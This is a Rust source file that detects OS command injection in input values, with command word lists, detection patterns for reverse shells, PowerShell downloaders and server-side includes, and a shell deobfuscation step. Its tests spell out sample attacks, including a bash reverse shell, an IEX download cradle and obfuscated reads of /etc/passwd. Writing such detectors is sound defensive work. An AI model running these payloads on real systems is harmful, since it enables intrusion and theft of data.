//! OS command injection for Unix shells, Windows `cmd.exe` and PowerShell.
//!
//! The value is first stripped of the quoting tricks shells ignore (`c'a't`, `c\at`,
//! `w^h^o^a^m^i`, `$@`, `${IFS}` for a space, `{cat,/etc/passwd}` brace lists). Then:
//!
//! - `cmd.separator`: a command separator (`;`, `|`, `||`, `&`, `&&`, newline) followed by
//!   a known command whose next word looks like a shell argument (an option, a path, a
//!   number, a host, a redirection) or ends the value. "Tom & Jerry" or "salt; cat
//!   lovers" do not match because "Jerry" is no command and "lovers" no argument.
//! - `cmd.substitution`: `` `cmd` `` or `$(cmd)` around a known command.
//! - `cmd.leading`: a value that is itself a command line: a command that attackers run
//!   (`cat`, `nc`, `bash`, `wget`, ...) with an argument that is an absolute path, option
//!   or URL. "ls 300 lexus" and "nc 8000 controller" have neither.
//! - `cmd.reverse_shell`: `/dev/tcp/`, `bash -i`, `nc -e`, `mkfifo` and their like.
//! - `cmd.glob_path`: `/???/c?t`-style wildcard paths to binaries.
//! - `cmd.powershell`: PowerShell cmdlets and downloaders (`Invoke-Expression`, `IEX`,
//!   `New-Object Net.WebClient`, `-EncodedCommand`).
//! - `cmd.ssi`: server-side include directives (`<!--#exec cmd="..."-->`,
//!   `<!--#include virtual="..."-->`), which web servers with SSI enabled execute.

use regex::bytes::Regex;

use crate::rules::ascii_regex;

use crate::finding::Confidence;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CommandMatch {
    pub rule_id: &'static str,
    pub confidence: Confidence,
    pub at: usize,
}

/// Commands that attackers run after a separator: reconnaissance, file reading,
/// downloaders, interpreters, network tools, and their Windows counterparts.
const COMMANDS: &[&str] = &[
    // Unix reconnaissance and file reading.
    "id",
    "whoami",
    "uname",
    "hostname",
    "pwd",
    "ls",
    "dir",
    "cat",
    "tac",
    "more",
    "less",
    "head",
    "tail",
    "nl",
    "od",
    "xxd",
    "hexdump",
    "strings",
    "grep",
    "egrep",
    "fgrep",
    "find",
    "locate",
    "which",
    "whereis",
    "file",
    "stat",
    "env",
    "printenv",
    "set",
    "export",
    "ps",
    "top",
    "netstat",
    "ss",
    "ifconfig",
    "ip",
    "route",
    "arp",
    "last",
    "w",
    "who",
    "users",
    "groups",
    "lsof",
    "df",
    "du",
    "mount",
    "uptime",
    "date",
    "history",
    "echo",
    "printf",
    "sort",
    "uniq",
    "cut",
    "awk",
    "gawk",
    "sed",
    "tr",
    "wc",
    "diff",
    "tee",
    "xargs",
    "base64",
    "base32",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "openssl",
    "getent",
    "lsb_release",
    "dmesg",
    "sysctl",
    "crontab",
    "sudo",
    "su",
    "doas",
    "chmod",
    "chown",
    "chgrp",
    "rm",
    "rmdir",
    "mv",
    "cp",
    "ln",
    "mkdir",
    "touch",
    "dd",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "bzip2",
    "kill",
    "killall",
    "pkill",
    "nohup",
    "timeout",
    "sleep",
    "usleep",
    "time",
    "exec",
    "eval",
    "source",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "systemctl",
    "service",
    "useradd",
    "userdel",
    "usermod",
    "passwd",
    "chpasswd",
    "mkfifo",
    "mknod",
    "ldd",
    "strace",
    "gdb",
    "vi",
    "vim",
    "nano",
    "ed",
    "more",
    "pg",
    "rev",
    "fold",
    "fmt",
    "expand",
    "split",
    "csplit",
    "paste",
    "join",
    "comm",
    "look",
    // Shells and interpreters.
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "fish",
    "ash",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "nodejs",
    "lua",
    "tclsh",
    "wish",
    "java",
    "jrunscript",
    "irb",
    "expect",
    // Network and download tools.
    "wget",
    "curl",
    "fetch",
    "lwp-download",
    "lwp-request",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "sftp",
    "ftp",
    "tftp",
    "rsync",
    "ping",
    "ping6",
    "traceroute",
    "tracert",
    "nslookup",
    "dig",
    "host",
    "whois",
    "nmap",
    "xterm",
    "openvpn",
    "smbclient",
    "rpcclient",
    "ldapsearch",
    "mysql",
    "psql",
    "sqlite3",
    "mongo",
    "redis-cli",
    "lastlog",
    "lastb",
    "faillog",
    "getfacl",
    "lsattr",
    "chattr",
    "sestatus",
    "iptables",
    "dpkg",
    "rpm",
    "apt",
    "apt-get",
    "yum",
    "pip",
    "npm",
    "gcc",
    "cc",
    "make",
    "git",
    "docker",
    "kubectl",
    "mysqldump",
    "pg_dump",
    "sqlcmd",
    "tcpdump",
    "tshark",
    "nice",
    "flock",
    "cpulimit",
    "cscli",
    // Windows cmd.exe and tools.
    "cmd",
    "command",
    "powershell",
    "pwsh",
    "type",
    "copy",
    "del",
    "erase",
    "ren",
    "move",
    "ver",
    "vol",
    "systeminfo",
    "tasklist",
    "taskkill",
    "net",
    "net1",
    "netsh",
    "ipconfig",
    "reg",
    "regedit",
    "sc",
    "wmic",
    "whoami",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "msiexec",
    "schtasks",
    "at",
    "findstr",
    "attrib",
    "icacls",
    "cacls",
    "nbtstat",
    "qwinsta",
    "quser",
    "query",
    "runas",
    "start",
    "call",
    "forfiles",
    "pathping",
    "arp",
    "route",
    "explorer",
    "notepad",
    "calc",
    "shutdown",
    "cipher",
    "vssadmin",
    "bcdedit",
    "wevtutil",
    "dsquery",
    "nltest",
    "klist",
    "curl.exe",
    "where",
    "tree",
];

/// Commands that run other programs or read files, checked when the value starts with
/// one (the value is the whole command line).
const LEADING_COMMANDS: &[&str] = &[
    "cat",
    "tac",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "wget",
    "curl",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "chmod",
    "rm",
    "telnet",
    "busybox",
    "cmd",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "type",
    "whoami",
    "uname",
    "id",
    "ping",
    "nslookup",
    "sleep",
    "echo",
    "ls",
    "dir",
    "net",
    "ipconfig",
    "systeminfo",
    "head",
    "tail",
    "find",
    "xterm",
    "eval",
    "exec",
    "base64",
    "awk",
    "sed",
    "grep",
    "ifconfig",
    "netstat",
    "ps",
    "env",
    "sudo",
    "su",
    "crontab",
    "mkfifo",
    "tftp",
    "ftp",
    "ssh",
    "scp",
    "nmap",
    "dig",
    "host",
    "nohup",
    "timeout",
    "tasklist",
];

/// Commands that mean something on their own, without arguments, after a separator.
const BARE_COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "hostname",
    "pwd",
    "ls",
    "dir",
    "ps",
    "ifconfig",
    "ipconfig",
    "netstat",
    "env",
    "printenv",
    "set",
    "systeminfo",
    "tasklist",
    "ver",
    "w",
    "who",
    "uptime",
    "reboot",
    "shutdown",
    "halt",
    "sh",
    "bash",
    "cmd",
    "powershell",
    "pwsh",
    "last",
    "history",
    "groups",
    "users",
    "date",
    "getuid",
    "sysinfo",
    "vol",
    "net",
    "echo",
    "sleep",
    "top",
    "df",
    "mount",
    "arp",
    "route",
    "calc",
    "notepad",
    "exit",
    "logout",
];

pub struct CommandRules {
    commands: WordSet,
    leading: WordSet,
    bare: WordSet,
    reverse_shell: Regex,
    glob_path: Regex,
    powershell: Regex,
    server_side_include: Regex,
}

impl CommandRules {
    pub fn new() -> Self {
        let reverse_shell = ascii_regex(
            r"(?i)/dev/(?:tcp|udp)/|\b(?:ba)?sh\s+-i\b|\bnc(?:at)?\s+(?:-[a-z]*\s+)*-[a-z]*[ec]\b|\bmkfifo\s|\b0<&\d+|\bexec\s+\d+<>|\bsocat\s+(?:exec|tcp)|\bpty\.spawn\(|\bsubprocess\.(?:call|popen|run|check_output)\(|\bos\.(?:system|popen)\(|\bRuntime\.getRuntime\(\)\.exec",
        )
        .expect("the reverse shell pattern is valid");
        let glob_path = ascii_regex(r"/(?:[a-z?*\[\]]{1,6}/){1,2}[a-z?*\[\]]{0,9}[?*\[][a-z?*\[\]]*(?:\s|$)")
            .expect("the glob path pattern is valid");
        let powershell = ascii_regex(
            r"(?i)\b(?:invoke-(?:expression|webrequest|restmethod|command|item|wmimethod|shellcode|mimikatz)|new-object\s+(?:-typename\s+)?(?:system\.)?net\.(?:webclient|sockets)|start-process|start-bitstransfer|(?:get|set|add|remove)-(?:content|childitem|itemproperty|wmiobject|ciminstance|localuser|mppreference|process|service|acl)|downloadstring\(|downloadfile\(|frombase64string\(|set-executionpolicy|iex\s*[(\s$])|(?:^|\s)-(?:encodedcommand|enc|ec|e)\s+[a-z0-9+/=]{16,}|(?:^|\s)-executionpolicy\s+bypass",
        )
        .expect("the PowerShell pattern is valid");
        let server_side_include =
            ascii_regex(r"(?i)<!--\s*#\s*(?:exec|include|echo|config|printenv|fsize|flastmod|set|if)\b")
                .expect("the server-side include pattern is valid");
        Self {
            server_side_include,
            commands: WordSet::new(COMMANDS),
            leading: WordSet::new(LEADING_COMMANDS),
            bare: WordSet::new(BARE_COMMANDS),
            reverse_shell,
            glob_path,
            powershell,
        }
    }

    pub fn detect(&self, text: &str) -> Option<CommandMatch> {
        let shell = deobfuscate(text);
        let bytes = shell.text.as_bytes();
        let original_at = |at: usize| shell.original_offset(at);

        if let Some(found) = self.server_side_include.find(text.as_bytes()) {
            return Some(CommandMatch { rule_id: "cmd.ssi", confidence: Confidence::High, at: found.start() });
        }
        if let Some(found) = self.reverse_shell.find(shell.text.as_bytes()) {
            return Some(CommandMatch {
                rule_id: "cmd.reverse_shell",
                confidence: Confidence::High,
                at: original_at(found.start()),
            });
        }

        let mut i = 0;
        while i < bytes.len() {
            // Skip to the next byte that can start a separator.
            while i < bytes.len() && !SEPARATOR_START[bytes[i] as usize] {
                i += 1;
            }
            let Some(&b) = bytes.get(i) else { break };
            let (kind, after) = match b {
                b'`' => (Separator::Substitution, i + 1),
                b'$' if bytes.get(i + 1) == Some(&b'(') => (Separator::Substitution, i + 2),
                b';' | b'\n' | b'\r' => (Separator::Sequence, i + 1),
                b'|' => (Separator::Sequence, if bytes.get(i + 1) == Some(&b'|') { i + 2 } else { i + 1 }),
                b'&' => {
                    if bytes.get(i + 1) == Some(&b'&') {
                        (Separator::Sequence, i + 2)
                    } else {
                        (Separator::Background, i + 1)
                    }
                }
                b'{' if i == 0 || matches!(bytes[i - 1], b' ' | b';' | b'|' | b'&') => (Separator::Group, i + 1),
                _ => {
                    i += 1;
                    continue;
                }
            };
            if let Some(found) = self.command_at(bytes, after, kind) {
                return Some(CommandMatch { rule_id: found.0, confidence: found.1, at: original_at(i) });
            }
            i = after;
        }

        // A glob path needs a wildcard.
        if memchr::memchr3(b'?', b'*', b'[', bytes).is_some()
            && let Some(found) = self.glob_path.find(bytes)
        {
            return Some(CommandMatch {
                rule_id: "cmd.glob_path",
                confidence: Confidence::High,
                at: original_at(found.start()),
            });
        }
        if let Some(found) = self.powershell.find(text.as_bytes()) {
            return Some(CommandMatch { rule_id: "cmd.powershell", confidence: Confidence::High, at: found.start() });
        }
        if let Some(found) = self.leading_command(bytes) {
            return Some(CommandMatch { rule_id: "cmd.leading", confidence: found, at: 0 });
        }
        None
    }

    /// Checks for a command at `bytes[start..]` after a separator of kind `kind`.
    fn command_at(&self, bytes: &[u8], start: usize, kind: Separator) -> Option<(&'static str, Confidence)> {
        let (name, after_name) = command_word(bytes, start)?;
        if !self.commands.contains(name) {
            return None;
        }
        if kind == Separator::Substitution {
            return Some(("cmd.substitution", Confidence::High));
        }

        let argument_start = skip_spaces(bytes, after_name);
        let argument = &bytes[argument_start..];
        let ends = argument.is_empty()
            || matches!(argument[0], b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'#' | b'\'' | b'"');
        if ends {
            // A bare command is an attack only for commands that do something alone, and
            // after `&` (a common character in text) only when the value ends there.
            if self.bare.contains(name) {
                return Some((
                    "cmd.separator",
                    if kind == Separator::Background { Confidence::Medium } else { Confidence::High },
                ));
            }
            return None;
        }
        // In text, `&` and line breaks are often followed by a word and a number
        // ("Search & find 2 items"), so numbers count only for commands that take one.
        let numbers_allowed = !matches!(kind, Separator::Background) && bytes[..start].last() != Some(&b'\n')
            || matches!(name, "sleep" | "usleep" | "ping" | "timeout");
        if looks_like_argument(argument, numbers_allowed) {
            return Some(("cmd.separator", Confidence::High));
        }
        None
    }

    /// True when the first word of `text` is a command that [`Self::detect`] checks as a
    /// whole command line; a cheap test for the prefilter.
    pub fn starts_with_leading_command(&self, text: &str) -> bool {
        let word = text.trim_start().split([' ', '\t']).next().unwrap_or("");
        let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
        let mut buffer = [0u8; 16];
        if word.len() > 64 || base.len() > buffer.len() || base.is_empty() {
            return false;
        }
        let lower = &mut buffer[..base.len()];
        lower.copy_from_slice(base.as_bytes());
        lower.make_ascii_lowercase();
        std::str::from_utf8(lower).is_ok_and(|lower| self.leading.contains(lower))
    }

    fn leading_command(&self, bytes: &[u8]) -> Option<Confidence> {
        let start = skip_spaces(bytes, 0);
        let (name, after_name) = command_word(bytes, start)?;
        if !self.leading.contains(name) {
            return None;
        }
        let argument_start = skip_spaces(bytes, after_name);
        if argument_start == after_name {
            return None;
        }
        let argument = &bytes[argument_start..];
        let strong = argument.first().is_some_and(|b| matches!(b, b'/' | b'-' | b'$' | b'<' | b'>' | b'|' | b'\\'))
            || argument.starts_with(b"http://")
            || argument.starts_with(b"https://")
            || argument.starts_with(b"c:\\")
            || argument.starts_with(b"%");
        strong.then_some(Confidence::Medium)
    }
}

impl Default for CommandRules {
    fn default() -> Self {
        Self::new()
    }
}

/// A sorted word list searched by binary search; cheaper than hashing for these short
/// words.
struct WordSet(Vec<&'static str>);

impl WordSet {
    fn new(words: &[&'static str]) -> Self {
        let mut words = words.to_vec();
        words.sort_unstable();
        words.dedup();
        Self(words)
    }

    fn contains(&self, word: &str) -> bool {
        self.0.binary_search(&word).is_ok()
    }
}

/// Bytes that start a separator in [`CommandRules::detect`].
static SEPARATOR_START: [bool; 256] = {
    let mut table = [false; 256];
    let starts = b"`$;\n\r|&{";
    let mut i = 0;
    while i < starts.len() {
        table[starts[i] as usize] = true;
        i += 1;
    }
    table
};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Separator {
    /// `;`, `|`, `||`, `&&`, newline.
    Sequence,
    /// A single `&`.
    Background,
    /// `` ` `` or `$(`.
    Substitution,
    /// `{` opening a command group or brace expansion.
    Group,
}

fn skip_spaces(bytes: &[u8], mut i: usize) -> usize {
    while i < bytes.len() && matches!(bytes[i], b' ' | b'\t') {
        i += 1;
    }
    i
}

/// Reads the command name at `bytes[start..]`, without a directory (`/usr/bin/id`,
/// `C:\Windows\System32\cmd.exe`), a `.exe` suffix or `sudo`; lower-case.
fn command_word(bytes: &[u8], start: usize) -> Option<(&str, usize)> {
    let mut i = skip_spaces(bytes, start);
    // A subshell or group: `(sh)`, `{ id; }`.
    while i < bytes.len() && matches!(bytes[i], b'(' | b'{') {
        i = skip_spaces(bytes, i + 1);
    }
    let word_start = i;
    while i < bytes.len()
        && (bytes[i].is_ascii_alphanumeric() || matches!(bytes[i], b'/' | b'\\' | b'.' | b'_' | b'-' | b':'))
    {
        i += 1;
    }
    if i == word_start || i - word_start > 64 {
        return None;
    }
    let word = std::str::from_utf8(&bytes[word_start..i]).ok()?;
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let base = base.strip_suffix(".exe").or_else(|| base.strip_suffix(".com")).unwrap_or(base);
    if base.is_empty() {
        return None;
    }
    // A path that is not a binary path (`a/b`) is not a command.
    if word.contains('/') && !word.starts_with('/') {
        return None;
    }
    // Wrappers that run the next word as the command.
    if matches!(base, "sudo" | "nohup" | "time" | "nice" | "exec" | "doas" | "command" | "builtin") {
        let next = skip_spaces(bytes, i);
        if next < bytes.len() && bytes[next] != b'-' {
            return command_word(bytes, next).or(Some((base, i)));
        }
    }
    Some((base, i))
}

/// True when `argument` looks like what follows a command in a shell: an option, a path,
/// a number, a host or file name with a dot, a variable, a redirection or a quote.
fn looks_like_argument(argument: &[u8], numbers_allowed: bool) -> bool {
    let first = argument[0];
    if matches!(first, b'-' | b'/' | b'\\' | b'.' | b'~' | b'$' | b'<' | b'>' | b'%' | b'*' | b'{' | b'[') {
        return true;
    }
    if first.is_ascii_digit() {
        return numbers_allowed || argument.iter().take_while(|b| !b.is_ascii_whitespace()).any(|&b| b == b'.');
    }
    let word_end =
        argument.iter().position(|&b| b == b' ' || b == b';' || b == b'|' || b == b'&').unwrap_or(argument.len());
    let word = &argument[..word_end];
    word.contains(&b'.')
        || word.contains(&b'/')
        || word.contains(&b'\\')
        || word.contains(&b'=')
        || word.starts_with(b"c:")
}

/// A value with shell quoting tricks removed, and for each byte its offset in the input.
struct Deobfuscated {
    text: String,
    /// Offset in the input of each byte of `text`, or empty when every byte kept its
    /// offset.
    origin: Vec<usize>,
}

impl Deobfuscated {
    /// Offset in the input of the byte at `at` in `text`, or 0 past its end.
    fn original_offset(&self, at: usize) -> usize {
        if self.origin.is_empty() {
            return if at < self.text.len() { at } else { 0 };
        }
        self.origin.get(at).copied().unwrap_or(0)
    }
}

/// Removes what a shell drops while reading a word: quotes, backslash escapes, `^`
/// (cmd.exe), empty expansions (`$@`, `$*`, `${x}` that is unset), and turns `$IFS`,
/// `${IFS}`, `%20`-free brace lists (`{cat,/etc/passwd}`) and tabs into spaces.
fn deobfuscate(text: &str) -> Deobfuscated {
    // Bytes other than these are only lower-cased.
    let is_special = |b: &u8| matches!(b, b'$' | b'\'' | b'"' | b'\\' | b'^' | b'\t' | b',');
    let bytes = text.as_bytes();
    if !bytes.iter().any(is_special) {
        return Deobfuscated { text: text.to_ascii_lowercase(), origin: Vec::new() };
    }

    let mut out = Vec::with_capacity(bytes.len());
    let mut origin = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let run_end = bytes[i..].iter().position(is_special).map_or(bytes.len(), |p| i + p);
        out.extend(bytes[i..run_end].iter().map(u8::to_ascii_lowercase));
        origin.extend(i..run_end);
        i = run_end;
        let Some(&b) = bytes.get(i) else { break };
        let rest = &bytes[i..];
        if b == b'$' {
            if rest.starts_with(b"${IFS}") || rest.starts_with(b"$IFS$9") {
                out.push(b' ');
                origin.push(i);
                i += 6;
                continue;
            }
            if rest.starts_with(b"$IFS") {
                out.push(b' ');
                origin.push(i);
                i += 4;
                continue;
            }
            if rest.starts_with(b"$@")
                || rest.starts_with(b"$*")
                || rest.starts_with(b"$!")
                || (rest.len() >= 2 && rest[1].is_ascii_digit())
            {
                i += 2;
                continue;
            }
        }
        match b {
            // Quotes inside or around a word are removed by the shell: `c'a't` is `cat`.
            b'\'' | b'"'
                if i > 0 && bytes[i - 1].is_ascii_alphanumeric()
                    || bytes.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric() || *n == b'/') =>
            {
                i += 1;
            }
            b'\\'
                if bytes.get(i + 1).is_some_and(|n| n.is_ascii_alphanumeric())
                    && i > 0
                    && bytes[i - 1].is_ascii_alphanumeric() =>
            {
                i += 1;
            }
            b'^' if i > 0 && bytes[i - 1].is_ascii_alphanumeric() => {
                i += 1;
            }
            b'\t' => {
                out.push(b' ');
                origin.push(i);
                i += 1;
            }
            b',' if out.contains(&b'{') && !out.contains(&b'}') => {
                out.push(b' ');
                origin.push(i);
                i += 1;
            }
            _ => {
                out.push(b.to_ascii_lowercase());
                origin.push(i);
                i += 1;
            }
        }
    }
    let text = String::from_utf8(out).unwrap_or_else(|error| String::from_utf8_lossy(error.as_bytes()).into_owned());
    Deobfuscated { text, origin }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_cases() {
        let rules = CommandRules::new();
        let attacks = [
            ("; cat /etc/passwd", "cmd.separator"),
            ("127.0.0.1 && whoami", "cmd.separator"),
            ("x | id", "cmd.separator"),
            ("`id`", "cmd.substitution"),
            ("$(uname -a)", "cmd.substitution"),
            (";c'a't${IFS}/etc/passwd", "cmd.separator"),
            ("|w^h^o^a^m^i", "cmd.separator"),
            ("& ping -n 5 127.0.0.1 &", "cmd.separator"),
            (";{cat,/etc/passwd}", "cmd.separator"),
            ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "cmd.reverse_shell"),
            ("cat /etc/passwd", "cmd.leading"),
            (";/???/??t /???/p??s??", "cmd.glob_path"),
            ("IEX(New-Object Net.WebClient).DownloadString('http://x/a')", "cmd.powershell"),
            ("\nsleep 5\n", "cmd.separator"),
            ("<!--#exec cmd=\"ls\" -->", "cmd.ssi"),
            ("www.example.com;c$!at /et$!c/pas$!swd", "cmd.separator"),
            ("x;time sh -c whoami", "cmd.separator"),
            ("d=/dev&&(sh)0>$d/tcp/203.0.113.1/777", "cmd.separator"),
            ("/bi[n]/bas[h]", "cmd.glob_path"),
        ];
        for (input, rule) in attacks {
            assert_eq!(rules.detect(input).map(|m| m.rule_id), Some(rule), "input {input:?}");
        }
    }

    #[test]
    fn command_near_misses() {
        let rules = CommandRules::new();
        let benign = [
            "echo in the mirror",
            "bash away in the gym",
            "ls 300 lexus",
            "nc 8000 controller",
            "curl and divergence",
            "zsh is the best!",
            "exec noun",
            "Tom & Jerry",
            "salt; cat lovers unite",
            "R&D | marketing",
            "AT&T",
            "fish & chips",
            "one; two; three",
            "Search & find 2 items",
            "less -20% off",
        ];
        for input in benign {
            assert_eq!(rules.detect(input), None, "input {input:?}");
        }
    }
}
